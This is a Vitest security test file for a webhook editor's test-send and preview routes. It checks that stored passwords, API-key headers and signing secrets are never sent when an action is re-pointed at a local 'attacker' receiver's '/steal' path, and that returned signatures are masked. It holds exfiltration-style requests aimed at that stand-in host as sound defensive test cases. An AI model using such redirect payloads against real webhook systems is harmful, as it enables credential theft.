// Issue 11, hole 1 through the editor's internal routes: a test send (or a preview) naming another
// campaign's action, a copy, or its own action moved to another origin neither sends a stored secret
// nor signs with the action's signing secret; the same action at its own origin still works, and
// what the caller gets back never holds a usable signature. Real receivers on 127.0.0.1.
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { memberCookies } from "@/test/sessions";
import { saveCampaign } from "@/lib/campaigns/campaigns";
import { campaignDraftSchema } from "@/lib/campaigns/schemas";
import { rotateSigningSecret } from "@/lib/campaigns/signing-secrets";
import { sign } from "@/lib/webhooks/sign";
import { startReceiver, type Received } from "@/lib/delivery/testing/receiver";
import { POST as testSend } from "./route";
import { POST as preview } from "../preview/route";

let victim: Awaited<ReturnType<typeof startReceiver>>;
let attacker: Awaited<ReturnType<typeof startReceiver>>;
let cookies: Awaited<ReturnType<typeof memberCookies>>;
let campaignId = "";
let actionId = "";
let secret = "";

beforeAll(async () => {
  victim = await startReceiver();
  attacker = await startReceiver();
  cookies = await memberCookies();
  await db().user.create({ data: { id: "u1", email: "mary@example.com", attributes: {} } });
  const { id } = await saveCampaign(
    campaignDraftSchema.parse({
      name: "Victim",
      actions: [{ name: "CRM", url: `http://crm:hunter2@127.0.0.1:${victim.port}/hook`, headers: [{ name: "X-Api-Key", value: "key-123", secret: true }] }],
    }),
  );
  campaignId = id;
  actionId = (await db().action.findFirstOrThrow({ where: { campaignId: id } })).id;
  secret = (await rotateSigningSecret(id, actionId))!.secret;
});
afterEach(() => {
  victim.received.length = 0;
  attacker.received.length = 0;
});
afterAll(async () => Promise.all([victim.close(), attacker.close()]));

const call = (route: (r: Request) => Promise<Response>, path: string, cookie: string, body: unknown) =>
  route(new Request(`http://127.0.0.1${path}`, { method: "POST", headers: { "content-type": "application/json", origin: "http://127.0.0.1", cookie }, body: JSON.stringify(body) }));

const masked = (port: number, path = "/steal") => ({ url: `http://crm:••••@127.0.0.1:${port}${path}`, headers: [{ name: "X-Api-Key", value: "••••", secret: true }] });
const body = { fields: [{ key: "chosen", value: "by the caller", type: "text" }] };

/** Stored secrets or a signature with the action's secret, as a receiver saw them. */
function secretsIn(r: Received): string[] {
  const seen = JSON.stringify(r.headers);
  const found = ["key-123", "hunter2", Buffer.from("crm:hunter2").toString("base64")].filter((s) => seen.includes(s));
  const signature = r.headers["webhook-signature"];
  if (signature) found.push("webhook-signature");
  return found;
}

const sendAs = async (who: "editor" | "admin", action: Record<string, unknown>, campaign: { id?: string; name: string } = { name: "Mine" }) => {
  const res = await call(testSend, "/api/test-sends", cookies[who], { action: { name: "Mine", ...body, ...action }, campaign, userId: "u1" });
  expect(res.status).toBe(200);
  return (await res.json()) as { error: string | null; request: { headers: [string, string][] } | null; outcome: string };
};

describe("POST /api/test-sends and the secret resolver", () => {
  it("naming another campaign's signed action, pointed at the caller's server: nothing stored is sent, nothing is signed", async () => {
    // With its secrets masked: a clear error naming them, nothing sent.
    const { id: mine } = await saveCampaign(campaignDraftSchema.parse({ name: "Mine", actions: [] }));
    const refused = await sendAs("editor", { id: actionId, ...masked(attacker.port) }, { id: mine, name: "Mine" });
    expect(refused.error).toMatch(/another campaign, so the saved password cannot be used: type it again/);
    expect(refused.error).toMatch(/"X-Api-Key" cannot be used/);
    expect(attacker.received).toHaveLength(0);
    // Without them: sent as a new action would be, unsigned.
    const plain = await sendAs("editor", { id: actionId, url: `http://127.0.0.1:${attacker.port}/steal` });
    expect(plain.error).toBeNull();
    expect(attacker.received).toHaveLength(1);
    expect(secretsIn(attacker.received[0]!)).toEqual([]);
    // The victim's history does not show the attacker's sends.
    expect(await db().testSend.count({ where: { actionId } })).toBe(0);
  });

  it("its own action moved to another origin: no masked secret, no signature, nothing sent", async () => {
    const campaign = { id: campaignId, name: "Victim" };
    const moved = await sendAs("editor", { id: actionId, ...masked(attacker.port) }, campaign);
    expect(moved.error).toMatch(/host changed, so the saved password cannot be used/);
    const unmasked = await sendAs("editor", { id: actionId, url: `http://127.0.0.1:${attacker.port}/steal` }, campaign);
    expect(unmasked.error).toMatch(/signed.*never signed for another host/);
    const templated = await sendAs("editor", { id: actionId, url: "http://{{userAttribute.crm}}/steal" }, campaign);
    expect(templated.error).toMatch(/signed/);
    expect(attacker.received).toHaveLength(0);
  });

  it("its own action at its own origin: sent with the stored secrets and signed, but the caller sees the signature masked", async () => {
    const sent = await sendAs("editor", { id: actionId, ...masked(victim.port, "/hook") }, { id: campaignId, name: "Victim" });
    expect(sent.error).toBeNull();
    const got = victim.received[0]!;
    expect(secretsIn(got)).toEqual(["key-123", Buffer.from("crm:hunter2").toString("base64"), "webhook-signature"]);
    expect(got.headers["webhook-signature"]).toBe(sign(secret, String(got.headers["webhook-id"]), Number(got.headers["webhook-timestamp"]), got.body));
    expect(JSON.stringify(sent)).not.toContain(String(got.headers["webhook-signature"]).slice(3, 20));
    expect(Object.fromEntries(sent.request!.headers)["webhook-signature"]).toBe("v1,••••");
  });

  it("a copy not saved yet: an editor's gets no secret; an admin's at the same origin gets password and header, never the signature", async () => {
    const copy = { copiedFrom: actionId, ...masked(victim.port, "/hook") };
    const byEditor = await sendAs("editor", copy);
    expect(byEditor.error).toMatch(/Only an admin's copy keeps saved secrets/);
    expect(victim.received).toHaveLength(0);
    const byAdmin = await sendAs("admin", copy);
    expect(byAdmin.error).toBeNull();
    expect(secretsIn(victim.received[0]!)).toEqual(["key-123", Buffer.from("crm:hunter2").toString("base64")]);
    const elsewhere = await sendAs("admin", { ...copy, url: `http://crm:••••@127.0.0.1:${attacker.port}/copy` });
    expect(elsewhere.error).toMatch(/host changed/);
    expect(attacker.received).toHaveLength(0);
  });
});

describe("POST /api/preview and the secret resolver", () => {
  it("never shows a real signature, and warns on each masked secret it may not reuse", async () => {
    const own = await call(preview, "/api/preview", cookies.viewer, { action: { id: actionId, ...body, ...masked(victim.port, "/hook") }, campaign: { id: campaignId, name: "Victim" }, userId: "u1" });
    const shown = (await own.json()) as { request: { headers: [string, string][] }; warnings: { field: string; message: string }[] };
    expect(Object.fromEntries(shown.request.headers)["webhook-signature"]).toBe("v1,••••");
    expect(shown.warnings).toEqual([]);

    const foreign = await call(preview, "/api/preview", cookies.viewer, { action: { id: actionId, ...body, ...masked(attacker.port) }, campaign: { name: "Mine" }, userId: "u1" });
    const warned = (await foreign.json()) as { request: { headers: [string, string][] }; warnings: { field: string; message: string }[] };
    expect(warned.warnings.map((w) => w.field)).toEqual(["url", "headers[0].value"]);
    expect(warned.warnings[1]!.message).toMatch(/saved value of the header "X-Api-Key" will be cleared: type it again/);
    expect(Object.fromEntries(warned.request.headers)["webhook-signature"]).toBeUndefined();

    const moved = await call(preview, "/api/preview", cookies.viewer, { action: { id: actionId, ...body, url: `http://127.0.0.1:${attacker.port}/x` }, campaign: { id: campaignId, name: "Victim" }, userId: "u1" });
    const unsigned = (await moved.json()) as { request: { headers: [string, string][] }; warnings: { field: string; message: string }[] };
    expect(unsigned.warnings).toEqual([{ field: "url", label: "URL", message: expect.stringMatching(/host changed, so this request is not signed/) }]);
    expect(Object.fromEntries(unsigned.request.headers)["webhook-signature"]).toBeUndefined();
  });
});
